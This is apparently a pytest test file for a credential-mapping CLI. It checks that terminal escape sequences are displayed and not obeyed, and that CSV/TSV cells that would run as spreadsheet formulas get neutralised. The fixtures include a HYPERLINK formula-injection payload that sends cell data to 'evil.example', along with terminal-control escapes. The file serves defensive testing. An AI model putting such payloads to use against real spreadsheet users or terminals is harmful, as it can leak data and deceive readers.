"""What reaches a person: escape sequences in a submission's text are shown, not obeyed, by a
terminal; CSV and TSV cells a spreadsheet would run as formulas are neutralised (OWASP)."""
import csv
import io
from pathlib import Path

import pytest

AU = Path(__file__).resolve().parents[1] / "examples" / "au-submission.csv"
ESCAPES = "\x1b]0;owned\x07\x1b[31mRed \x9b2J title\u202e"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SUM = "+SUM(1,2)"
TITLES_QUERY = "SELECT ?t WHERE { ?c <http://purl.org/dc/terms/title> ?t } ORDER BY ?t"


@pytest.fixture
def hostile(tmp_path):
    rows = list(csv.reader(AU.open(encoding="utf-8")))
    rows[1][1], rows[2][1], rows[3][1] = ESCAPES, FORMULA, SUM
    rows[3][9] = "0.5"  # a violation, so the text report shows this credential's title
    path = tmp_path / "hostile.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(rows[:4])
    q = tmp_path / "titles.rq"
    q.write_text(TITLES_QUERY)
    return path, q


def no_controls(text: str):
    bad = [c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f or c == "\u202e"]
    assert bad == [], f"control characters reach the reader: {bad!r}"


def test_validate_text_shows_escapes_instead_of_sending_them(run, hostile):
    path, _ = hostile
    result = run("validate", path, "--framework", "au")
    assert result.exit_code == 1
    no_controls(result.stdout)
    assert "+SUM(1,2)" in result.stdout  # text stays readable


def test_query_table_and_map_table_show_escapes(run, hostile):
    path, q = hostile
    table = run("query", q, path)
    no_controls(table.stdout)
    assert "\\x1b]0;owned" in table.stdout
    mapped = run("map", path, "--to", "nz")
    no_controls(mapped.stdout)


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_query_csv_and_tsv_cells_never_start_a_formula(run, hostile, fmt):
    path, q = hostile
    out = run("query", q, path, "--format", fmt).stdout
    cells = [c for row in csv.reader(io.StringIO(out), delimiter="," if fmt == "csv" else "\t") for c in row]
    assert not [c for c in cells if c.lstrip('"').startswith(("=", "+", "@"))], cells
    assert any(c.lstrip('"').startswith("'=HYPERLINK") for c in cells)
    no_controls(out.replace("\r\n", "\n"))


def test_map_csv_cells_never_start_a_formula(run, hostile, tmp_path):
    path, _ = hostile
    out = tmp_path / "mapped.csv"
    assert run("map", path, "--to", "nz", "--format", "csv", "--output", out).exit_code == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    titles = {r["title"] for r in rows}
    assert "'" + FORMULA in titles and "'" + SUM in titles
    assert all(not t.startswith(("=", "+", "-", "@")) for t in titles)


def test_negative_numbers_stay_numbers():
    from mcmap.text import cell, neutralise_csv

    assert cell("-3") == "-3" and cell("+1.5") == "+1.5" and cell("-") == "'-"
    assert neutralise_csv("a,b\r\n-2,=1+1\r\n") == "a,b\r\n-2,'=1+1\r\n"
